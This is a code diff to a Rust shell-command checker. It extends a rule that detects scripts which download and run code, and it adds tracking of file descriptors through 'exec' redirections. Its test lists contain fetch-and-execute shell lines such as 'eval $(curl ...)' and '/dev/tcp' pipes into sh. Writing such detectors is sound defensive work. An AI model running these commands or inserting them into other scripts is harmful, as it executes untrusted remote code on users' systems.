@@ -64,6 +64,11 @@ pub(in crate::check::rules) static RUNS_DOWNLOAD: Rule = Rule {
         "eval $(curl https://example.org/x)",
         "python3 -c \"$(curl https://example.org/x)\"",
         "bash <<< \"$(curl https://example.org/x)\"",
+        "exec 3< <(curl https://example.org/x); bash <&3",
+        "exec 3< <(curl https://example.org/x); bash /dev/fd/3",
+        "exec 3<>/dev/tcp/example.org/80; cat <&3 | sh",
+        "exec {in}<>/dev/tcp/example.org/80; sh <&\"$in\"",
+        "exec < <(curl https://example.org/x); sh",
         "$(curl https://example.org/x)",
         "x=$(curl https://example.org/x); eval \"$x\"",
         "x=$(curl https://example.org/x)\necho \"$x\" | sh",
@@ -91,6 +96,9 @@ pub(in crate::check::rules) static RUNS_DOWNLOAD: Rule = Rule {
         "x=$(curl https://example.org/x); echo \"$x\"",
         "eval \"$(ssh-agent -s)\"",
         "cat install.sh | sh",
+        "exec 3< install.sh; bash <&3",
+        "exec 3<>/dev/tcp/example.org/80; cat <&3",
+        "exec 3< <(curl https://example.org/x); bash install.sh",
         "curl -o i.sh https://example.org/x\nsha256sum -c i.sum\nbash i.sh",
         "curl -o data.json https://example.org/x; python3 read.py data.json",
         "base64 -d x | tar x",
@@ -121,14 +129,50 @@ enum TextOrigin {
     Encoded,
 }
 
+/// The variables and file descriptors that hold a download.
+#[derive(Default)]
+struct Tainted {
+    variables: BTreeSet<Text>,
+    descriptors: BTreeSet<Vec<u8>>,
+}
+
+impl Tainted {
+    /// Whether a word expands one of the variables.
+    fn is_used(&self, item: &PlannedWord) -> bool {
+        uses_variable(item, &self.variables)
+    }
+
+    /// Whether a file of a step is one of the descriptors: `<&3`, `/dev/fd/3`.
+    fn is_read(&self, file: &FileUse) -> bool {
+        match file.mode {
+            FileUseMode::Duplicate => match file.target.literal() {
+                Some(number) => self.descriptors.contains(number.strip_suffix(b"-").unwrap_or(number)),
+                None => self.is_used(&file.target),
+            },
+            FileUseMode::Read => self.is_named(&file.target),
+            _ => false,
+        }
+    }
+
+    /// Whether a path names one of the descriptors.
+    fn is_named(&self, path: &PlannedWord) -> bool {
+        const DIRECTORIES: [&[u8]; 2] = [b"/dev/fd/", b"/proc/self/fd/"];
+        let Some(path) = path.literal() else { return false };
+        let number = DIRECTORIES.iter().find_map(|directory| path.strip_prefix(*directory));
+        number.is_some_and(|number| self.descriptors.contains(number))
+    }
+}
+
 /// Returns the origin of the output of some steps.
-fn source(steps: &[PlanStep], tainted: &BTreeSet<Text>) -> Option<TextOrigin> {
+fn source(steps: &[PlanStep], tainted: &Tainted) -> Option<TextOrigin> {
     let network = |step: &PlanStep| DOWNLOADERS.contains(&name(step)) || step.files.iter().any(is_socket);
     let prints = |step: &PlanStep| {
-        matches!(name(step), b"echo" | b"printf") && step.argv.iter().any(|item| uses_variable(item, tainted))
+        matches!(name(step), b"echo" | b"printf") && step.argv.iter().any(|item| tainted.is_used(item))
     };
-    let from_variable = |step: &PlanStep| step.files.iter().any(|file| uses_variable(&file.target, tainted));
-    if steps.iter().any(|step| network(step) || prints(step) || from_variable(step)) {
+    let reads = |step: &PlanStep| {
+        step.files.iter().any(|file| tainted.is_used(&file.target) || tainted.is_read(file))
+    };
+    if steps.iter().any(|step| network(step) || prints(step) || reads(step)) {
         return Some(TextOrigin::Network);
     }
     steps.iter().any(decodes).then_some(TextOrigin::Encoded)
@@ -152,18 +196,31 @@ fn decodes(step: &PlanStep) -> bool {
     }
 }
 
-/// Returns the variables that contain a download.
-fn tainted(step_tree: &StepTree<'_>) -> BTreeSet<Text> {
-    let mut names = BTreeSet::new();
-    for (index, step) in step_tree.steps.iter().enumerate().filter(|(_, step)| !step.assignments.is_empty()) {
-        let fetched = step_tree
-            .parts(index, StepRole::Substitution)
-            .any(|part| source(part, &BTreeSet::new()).is_some());
-        if fetched {
-            names.extend(step.assignments.iter().map(|binding| binding.name.clone()));
+/// Returns the variables and file descriptors that hold a download.
+fn tainted(step_tree: &StepTree<'_>) -> Tainted {
+    let nothing = Tainted::default();
+    let mut found = Tainted::default();
+    for (index, step) in step_tree.steps.iter().enumerate() {
+        let fetches = |role| step_tree.parts(index, role).any(|part| source(part, &nothing).is_some());
+        if !step.assignments.is_empty() && fetches(StepRole::Substitution) {
+            found.variables.extend(step.assignments.iter().map(|binding| binding.name.clone()));
+        }
+        if name(step) != b"exec" || step.argv.len() != 1 {
+            continue;
+        }
+        for file in step.files.iter().filter(|file| file.by == UsedBy::Redirection) {
+            let fetched = is_socket(file)
+                || is_made_by(&file.target, Expansion::Process) && fetches(StepRole::ProcessSubstitution)
+                || is_made_by(&file.target, Expansion::Command) && fetches(StepRole::Substitution);
+            if fetched {
+                let descriptor = file.descriptor.as_deref().unwrap_or("0");
+                let variable = descriptor.strip_prefix('{').and_then(|name| name.strip_suffix('}'));
+                found.variables.extend(variable.map(|name| Text::from(name.as_bytes())));
+                found.descriptors.insert(descriptor.as_bytes().to_vec());
+            }
         }
     }
-    names
+    found
 }
 
 fn uses_variable(item: &PlannedWord, names: &BTreeSet<Text>) -> bool {
@@ -185,27 +242,36 @@ fn run_source(
     step_tree: &StepTree<'_>,
     index: usize,
     step: &PlanStep,
-    tainted: &BTreeSet<Text>,
+    tainted: &Tainted,
 ) -> Option<TextOrigin> {
     let part = |role: StepRole| step_tree.parts(index, role).find_map(|part| source(part, tainted));
     if reads_input(step) {
-        return match step.files.iter().rev().find(|file| is_input(file)) {
+        return match step.files.iter().rev().find(|file| is_input(file) || tainted.is_read(file)) {
+            Some(file) if tainted.is_read(file) => Some(TextOrigin::Network),
             Some(file) if is_made_by(&file.target, Expansion::Process) => part(StepRole::ProcessSubstitution),
             Some(file) if is_made_by(&file.target, Expansion::Command) => part(StepRole::Substitution),
-            Some(file) if uses_variable(&file.target, tainted) => Some(TextOrigin::Network),
+            Some(file) if tainted.is_used(&file.target) => Some(TextOrigin::Network),
             Some(_) => None,
-            None => step_tree.upstream(index).and_then(|steps| source(steps, tainted)),
+            None => match step_tree.upstream(index) {
+                Some(steps) => source(steps, tainted),
+                None => tainted.descriptors.contains(&b"0"[..]).then_some(TextOrigin::Network),
+            },
         };
     }
     let runner = is_shell(name(step)) || is_interpreter(name(step)) || matches!(name(step), b"source" | b".");
-    if runner && script(step).is_some_and(|script| is_made_by(script, Expansion::Process)) {
-        return part(StepRole::ProcessSubstitution);
+    if runner && let Some(script) = script(step) {
+        if is_made_by(script, Expansion::Process) {
+            return part(StepRole::ProcessSubstitution);
+        }
+        if tainted.is_named(script) {
+            return Some(TextOrigin::Network);
+        }
     }
     let text = text(step)?;
     if text.iter().any(|item| is_made_by(item, Expansion::Command)) {
         return part(StepRole::Substitution);
     }
-    text.iter().any(|item| uses_variable(item, tainted)).then_some(TextOrigin::Network)
+    text.iter().any(|item| tainted.is_used(item)).then_some(TextOrigin::Network)
 }
 
 /// Whether a step runs its standard input as a script.
